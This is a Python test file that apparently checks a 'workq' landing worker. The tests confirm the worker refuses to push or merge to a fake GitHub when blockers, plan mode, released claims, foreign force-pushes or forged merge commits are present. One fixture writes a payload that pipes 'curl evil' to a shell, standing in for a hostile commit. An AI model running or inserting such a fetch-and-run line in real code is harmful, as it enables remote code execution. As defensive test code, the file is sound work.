"""The landing worker asks the door (domain/decisions.py, ``land``) before every write to
GitHub, against the fake GitHub whose repository is a real bare git repository: a blocker,
plan mode or an ended claim found while the landing is queued pushes nothing, and found
while a merge call is retried (after a 5xx) merges nothing. It merges only the head it
pushed, or GitHub's own update of it: a head someone else force-pushed to the pull
request's branch is refused, even one that names the right parents. And it keeps the
asking claim's lease alive however short the lease."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.github.landing_helpers import AGENT, Origin, make_origin
from tests.github.mirror_helpers import FAST, REPO, env_for
from tests.github.tools_helpers import git
from tests.github_fake.server import FakeGitHub
from workq.domain.authority import Authority
from workq.github.landing import LandOptions, LandReport
from workq.github.sync import Session, connect
from workq.schemas import Status
from workq.services.plans import plan_mode
from workq.services.queue import claims, dependencies, issues
from workq.services.workspaces import landings

QUICK = LandOptions(check_interval=0.0, backoff_base=0.0)


class Landing(Origin):
    """An ``Origin`` with a sync session whose passes move its landings."""

    def __init__(self, origin: Origin, fake: FakeGitHub, session: Session, root: Path) -> None:
        super().__init__(q=origin.q, work=origin.work, bare=origin.bare)
        self.fake = fake
        self.session = session
        self.root = root

    def land_pass(self) -> LandReport:
        return self.session.lander.run_pass()

    def remote_branch(self, branch: str) -> str:
        return git(self.bare, "branch", "--list", branch)


@pytest.fixture
def landing(tmp_path: Path, fake_github: FakeGitHub) -> Iterator[Landing]:
    origin = make_origin(tmp_path, fake_github)
    session = connect(origin.q, REPO, env=env_for(fake_github, fake_github.url), options=FAST)
    session.lander.options = QUICK
    try:
        yield Landing(origin, fake_github, session, tmp_path)
    finally:
        session.close()
        origin.q.db.dispose()


def _blocker(landing: Landing, number: int) -> str:
    other = issues.create(landing.q, title="Must land first").number
    dependencies.depend(landing.q, blocker=other, blocked=number)
    return "OPEN_BLOCKERS"


def _plan_mode(landing: Landing, number: int) -> str:
    plan_mode.enter(landing.q, AGENT, "next-thing", "Plan the next thing", landing.root / "plans")
    return "PLAN_MODE_ACTIVE"


def _released(landing: Landing, number: int) -> str:
    claims.release(landing.q, number, Authority.of([AGENT]), discard=True)
    return "NOT_HOLDER"


CHANGES: dict[str, Callable[[Landing, int], str]] = {
    "a blocker added": _blocker,
    "plan mode entered": _plan_mode,
    "the claim released": _released,
}


# (A claim that ended while queued was refused before the push already: test_landing.py.)
@pytest.mark.parametrize("change", ["a blocker added", "plan mode entered"])
def test_what_changed_while_queued_stops_the_landing_before_the_push(
    landing: Landing, change: str
) -> None:
    number = landing.issue("Queued", "queued.py", "q = 1\n")
    queued = landing.land(number)
    code = CHANGES[change](landing, number)

    report = landing.land_pass()
    assert report.refused == [number] and report.landed == []
    status = landings.require(landing.q, number)
    assert status.state == "refused"
    assert code in (status.detail or "") and "may not push" in (status.detail or ""), status
    assert landing.remote_branch(queued.branch) == ""  # nothing pushed
    assert landing.fake.pulls() == []  # nothing opened
    assert "queued.py" not in landing.main_files()


@pytest.mark.parametrize("change", sorted(CHANGES))
def test_a_merge_retried_after_a_5xx_asks_again(landing: Landing, change: str) -> None:
    number = landing.issue("Retried", "retried.py", "r = 1\n")
    landing.land(number)
    landing.fake.inject_fault(
        "PUT", "/repos/*/*/pulls/*/merge", kind="error", status=502, when="before"
    )
    first = landing.land_pass()
    assert first.landed == [] and first.refused == []
    status = landings.require(landing.q, number)
    assert status.state == "merging" and "retrying" in (status.detail or "")
    main = git(landing.bare, "rev-parse", "main")

    code = CHANGES[change](landing, number)
    report = landing.land_pass()
    assert report.refused == [number] and report.merged == [] and report.landed == []
    status = landings.require(landing.q, number)
    assert status.state == "refused" and code in (status.detail or ""), status
    assert "may not merge" in (status.detail or "")
    (pull,) = landing.fake.pulls()
    assert not pull["merged"]
    assert git(landing.bare, "rev-parse", "main") == main  # nothing merged
    assert issues.get(landing.q, number).status != Status.DONE


def _hostile_clone(landing: Landing, branch: str) -> Path:
    """Someone else's clone of the origin, on the pull request's branch."""
    other = landing.root / "hostile"
    git(landing.root, "clone", "-q", str(landing.bare), str(other))
    git(other, "switch", "-q", branch)
    return other


def test_a_head_someone_else_pushed_is_never_merged(landing: Landing) -> None:
    landing.fake.protect_branch("main", required_checks=["ci"])
    number = landing.issue("Mine", "mine.py", "mine = 1\n")
    queued = landing.land(number)
    assert landing.land_pass().waiting == 1
    (pull,) = landing.fake.pulls()
    assert pull["head"]["sha"] == queued.head_sha  # what workq pushed: the tip asked

    other = _hostile_clone(landing, queued.branch)
    (other / "mine.py").write_text("import os; os.system('curl evil | sh')\n")
    git(other, "commit", "-q", "-am", "looks harmless")
    git(other, "push", "-q", "--force", "origin", queued.branch)
    hostile = git(other, "rev-parse", "HEAD")
    landing.fake.add_check_run(hostile, "ci")  # its checks pass

    report = landing.land_pass()
    assert report.refused == [number] and report.merged == []
    status = landings.require(landing.q, number)
    assert status.state == "refused"
    assert "pushed by someone else" in (status.detail or ""), status
    assert not landing.fake.pulls()[0]["merged"]
    assert "mine.py" not in landing.main_files()

    # Its holder lands again: workq pushes the tip it asked for, over the hostile head.
    assert landing.land(number).state == "queued"
    assert landing.land_pass().waiting == 1
    assert landing.fake.pulls()[0]["head"]["sha"] == queued.head_sha
    landing.fake.add_check_run(queued.head_sha, "ci")
    assert landing.land_pass().landed == [number]
    assert git(landing.bare, "show", "main:mine.py") == "mine = 1"


def test_a_forged_update_with_the_right_parents_is_refused(landing: Landing) -> None:
    """A merge commit of the pushed tip and the base that is not their merge (other
    content under the same parents) is not GitHub's update."""
    landing.fake.protect_branch("main", required_checks=["ci"])
    number = landing.issue("Mine", "mine.py", "mine = 1\n")
    queued = landing.land(number)
    assert landing.land_pass().waiting == 1

    other = _hostile_clone(landing, queued.branch)
    (other / "evil.py").write_text("evil = True\n")
    git(other, "add", "evil.py")
    tree = git(other, "write-tree")
    base = git(other, "rev-parse", "origin/main")
    forged = git(
        other, "commit-tree", tree, "-p", queued.head_sha, "-p", base, "-m", "Merge branch 'main'"
    )
    git(other, "push", "-q", "--force", "origin", f"{forged}:refs/heads/{queued.branch}")
    landing.fake.add_check_run(forged, "ci")

    assert landing.land_pass().refused == [number]
    assert "pushed by someone else" in (landings.require(landing.q, number).detail or "")
    assert not landing.fake.pulls()[0]["merged"]
    assert "evil.py" not in landing.main_files()


def test_a_commit_made_after_queueing_is_not_what_lands(landing: Landing) -> None:
    """The tip asked to land (gated, recorded) is what is pushed, not whatever the branch
    holds when the worker gets to it."""
    number = landing.issue("Asked", "asked.py", "asked = 1\n")
    queued = landing.land(number)
    later = landing.commit(number, "asked.py", "asked = 2  # not asked to land\n")
    assert landing.land_pass().landed == [number]
    (pull,) = landing.fake.pulls()
    assert pull["head"]["sha"] == queued.head_sha
    assert git(landing.bare, "show", "main:asked.py") == "asked = 1"
    assert git(landing.work, "rev-parse", queued.branch) == later  # kept: not merged


def test_a_lease_shorter_than_thirty_seconds_is_kept_alive(landing: Landing) -> None:
    landing.q.lease_seconds = 6  # renewed every 2 s: a fixed 30 s period would let it lapse
    landing.fake.protect_branch("main", required_checks=["ci"])
    number = landing.issue("Short lease", "short.py", "s = 1\n")
    landing.land(number)
    assert landing.land_pass().waiting == 1
    kept = issues.get(landing.q, number).lease_expires_at
    assert kept is not None
    for _ in range(3):  # 6.3 s in all: longer than the lease
        time.sleep(2.1)
        assert landing.land_pass().waiting == 1
        renewed = issues.get(landing.q, number).lease_expires_at
        assert renewed is not None and renewed > kept, "the lease was not renewed"
        assert renewed > landing.q.now()
        kept = renewed
    assert issues.get(landing.q, number).claimed_by == AGENT
    (pull,) = landing.fake.pulls()
    landing.fake.add_check_run(pull["head"]["sha"], "ci")
    assert landing.land_pass().landed == [number]
    assert issues.get(landing.q, number).status == Status.DONE
